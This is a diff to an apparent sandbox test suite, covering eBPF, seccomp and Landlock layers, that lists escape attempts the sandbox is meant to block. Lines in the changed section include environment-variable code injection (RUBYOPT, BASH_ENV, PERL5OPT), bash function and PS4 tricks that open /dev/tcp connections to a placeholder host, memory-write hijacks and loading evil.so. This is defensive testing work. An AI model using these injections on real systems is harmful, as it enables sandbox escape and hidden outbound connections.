@@ -88,6 +88,8 @@ next; env_ NODE_PATH "ebpf (script)" "NODE_PATH=$E $B/s.js" "$B/s.js $OPEN"
 next; many PYTHONPATH "ebpf (script)" "PYTHONPATH=$E/py $B/s.py" "$B/s.py $OPEN"
 next; many PERL5OPT "ebpf (script)" "PERL5OPT='-I$E/perl -MEvil' $B/s.pl" "$B/s.pl $OPEN"
 next; env_ PERL5LIB "ebpf (script)" "PERL5LIB=$E/perl $B/s.pl" "$B/s.pl $OPEN"
+# No ruby is needed: the variable alone is what counts.
+next; env_ RUBYOPT "ebpf (script)" "RUBYOPT=-r$E/evil.rb $B/s.sh $D" "$B/s.sh $OPEN"
 next; env_ BASH_ENV "ebpf (script)" "BASH_ENV=$E/evil.sh $B/s.sh" "$B/s.sh $OPEN"
 next; env_ "BASH_FUNC_true%%" "ebpf (script)" "env 'BASH_FUNC_true%%=() { exec 3<>/dev/tcp/$D/4000; }' $B/s.sh" "$B/s.sh $OPEN"
 next; many "PS4 and SHELLOPTS" "ebpf (script)" "env SHELLOPTS=xtrace 'PS4=\$(exec 3<>/dev/tcp/$D/4000)' $B/s.sh" "$B/s.sh $OPEN"
@@ -104,8 +106,11 @@ next; no "process_vm_writev" seccomp "$A hijack writev $B/allowed $D"
 C_HOST[N-1]='yama 1'
 next; no "/proc/PID/mem" "mounts landlock" "$A hijack mem $B/allowed $D"
 C_HOST[N-1]='yama 1'
-next; no "gdb" seccomp "gdb -q -nx -batch -ex 'set startup-with-shell off' -ex run --args $B/allowed probe tcp $D 4000"
-type -P gdb >/dev/null || N=$((N - 1))
+if type -P gdb >/dev/null; then
+	next; no "gdb" seccomp "gdb -q -nx -batch -ex 'set startup-with-shell off' -ex run --args $B/allowed probe tcp $D 4000"
+fi
+try "strace of an allowed child" box=code layer=seccomp control="$SELF" harm="said '^traced$'" \
+	attempt="strace -o $E/trace $B/allowed probe tcp $OPEN 4000; grep -q '^connect(' $E/trace && echo traced"
 try "seccomp listener: answering an allowed program's calls" box=code layer=seccomp attempt="$A listener" harm="said ^done" control="$SELF"
 next; no "plug-in from a writable file (dlopen)" "lsm (code)" "OSHT_D=$D $B/dyn $E/evil.so"
 C_LIMIT[N-1]=no_lsm
